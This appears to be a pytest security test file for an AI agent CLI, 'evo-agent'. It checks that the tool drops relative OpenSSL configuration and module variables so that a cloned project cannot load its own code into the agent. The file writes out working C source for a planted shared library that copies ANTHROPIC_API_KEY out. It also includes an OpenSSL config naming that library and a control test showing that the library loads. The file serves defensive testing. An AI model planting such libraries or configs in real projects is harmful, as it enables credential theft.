"""A relative `OPENSSL_CONF` (or `OPENSSL_MODULES`, ...) never loads a clone's code into evo-agent's HTTPS (SPEC §9).

OpenSSL reads `$OPENSSL_CONF` when its first TLS context is made: evo-agent's first HTTPS request to the model API.
A relative name is read from the directory evo-agent started in, the project; a clone committing `openssl.cnf` whose
provider section names `module = $ENV::PWD/evil.so` then had its library loaded into evo-agent itself, which holds
the API key (the library below copies it out), before the first request went out. A relative `$OPENSSL_MODULES` does
the same for a provider the user's own configuration names (`legacy`: `OPENSSL_MODULES/legacy.so`), and
`$OPENSSL_ENGINES` / `$OPENSSL_CONF_INCLUDE` for engines and `.include`. Like a relative `SSL_CERT_FILE`
(test_clone_never_supplies_tls_trust.py), they are dropped at start. The control: a Python in the clone with the same
variables loads the planted library when it makes a TLS context.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys

import pytest

from evo_agent.cli.startup_env import drop_relative_startup_files
from tests.cli_runner import Cli, clean_env

from .hostile import clone, self_signed_https, upstream

pytestmark = pytest.mark.skipif(shutil.which("gcc") is None or shutil.which("openssl") is None,
                                reason="no C compiler for the planted library, or no openssl for the certificate")

API_KEY = "sk-ant-api03-" + "q" * 80
STOLEN_VAR = "EVO_TEST_STOLEN_KEY_FILE"
SOURCE = f"""
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void planted(void) {{
    const char *where = getenv("{STOLEN_VAR}"), *key = getenv("ANTHROPIC_API_KEY");
    if (!where) return;
    int fd = open(where, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd >= 0) {{ if (key) write(fd, key, strlen(key)); else write(fd, "loaded", 6); close(fd); }}
}}
"""
CLONE_CONF = """openssl_conf = init
[init]
providers = providers
[providers]
default = default_sect
planted = planted_sect
[default_sect]
activate = 1
[planted_sect]
module = $ENV::PWD/evil.so
activate = 1
"""
USER_CONF = """openssl_conf = init
[init]
providers = providers
[providers]
default = default_sect
legacy = legacy_sect
[default_sect]
activate = 1
[legacy_sect]
activate = 1
"""


@pytest.fixture(scope="module")
def planted_library(tmp_path_factory):
    out = tmp_path_factory.mktemp("planted")
    (out / "evil.c").write_text(SOURCE)
    made = subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(out / "evil.so"), str(out / "evil.c")],
                          capture_output=True, timeout=60)
    if made.returncode != 0:
        pytest.skip("the planted library cannot be built here")
    return (out / "evil.so").read_bytes()


@pytest.fixture
def tls_server(tmp_path):
    """A TLS server on loopback with a self-signed certificate: evo-agent does not trust it and fails at once."""
    with self_signed_https(tmp_path) as (port, _cert, _received):
        yield f"https://localhost:{port}"


def _armed_clone(tmp_path, library: bytes):
    files: dict[str, str | bytes] = {"openssl.cnf": CLONE_CONF, "conf/openssl.cnf": CLONE_CONF, "evil.so": library,
                                     "ossl-modules/legacy.so": library, "notes.txt": "x\n"}
    project = clone(upstream(tmp_path, files), tmp_path / "src" / "clone")
    (tmp_path / "user-openssl.cnf").write_text(USER_CONF)  # the user's own configuration, outside the project
    return project


def _spellings(tmp_path) -> list[dict[str, str]]:
    user_conf = str(tmp_path / "user-openssl.cnf")
    return [{"OPENSSL_CONF": "openssl.cnf"}, {"OPENSSL_CONF": "./openssl.cnf"},
            {"OPENSSL_CONF": "conf/../openssl.cnf"}, {"OPENSSL_CONF": "conf/openssl.cnf"},
            {"OPENSSL_CONF": user_conf, "OPENSSL_MODULES": "ossl-modules"},
            {"OPENSSL_CONF": user_conf, "OPENSSL_MODULES": "./ossl-modules/"}]


@pytest.mark.parametrize("spelling", range(6))
def test_control_python_in_the_clone_loads_the_planted_library(tmp_path, planted_library, spelling):
    project = _armed_clone(tmp_path, planted_library)
    stolen = tmp_path / "stolen"
    env = {**os.environ, **_spellings(tmp_path)[spelling], "PWD": str(project), STOLEN_VAR: str(stolen),
           "ANTHROPIC_API_KEY": API_KEY}
    subprocess.run([sys.executable, "-c", "import ssl; ssl.create_default_context()"], cwd=project, env=env,
                   capture_output=True, timeout=60)
    assert stolen.exists() and API_KEY in stolen.read_text()


@pytest.mark.parametrize("spelling", range(6))
def test_evo_agent_never_loads_a_library_the_clone_s_openssl_config_names(tmp_path, planted_library, tls_server,
                                                                          spelling):
    project = _armed_clone(tmp_path, planted_library)
    stolen = tmp_path / "stolen"
    env = clean_env(tmp_path / "home", ANTHROPIC_API_KEY=API_KEY, ANTHROPIC_BASE_URL=tls_server, PWD=str(project),
                    **{STOLEN_VAR: str(stolen)}, **_spellings(tmp_path)[spelling])
    result = Cli(project, env).run("-p", "hi")
    assert not stolen.exists(), "the clone's library ran inside evo-agent and read the API key"
    assert result.rc != 0 and "cannot connect securely" in result.err  # the honest path: TLS checked as ever


def test_relative_openssl_variables_are_dropped_and_absolute_ones_stay():
    environ = {"OPENSSL_CONF": "openssl.cnf", "OPENSSL_CONF_INCLUDE": "conf.d", "OPENSSL_MODULES": "./lib",
               "OPENSSL_ENGINES": "engines", "HOME": "/home/u"}
    drop_relative_startup_files(environ)
    assert environ == {"HOME": "/home/u"}
    own = {"OPENSSL_CONF": "/etc/ssl/corp.cnf", "OPENSSL_CONF_INCLUDE": "/etc/ssl/conf.d",
           "OPENSSL_MODULES": "/usr/lib/ossl-modules", "OPENSSL_ENGINES": "/usr/lib/engines-3"}
    kept = dict(own)
    drop_relative_startup_files(kept)
    assert kept == own
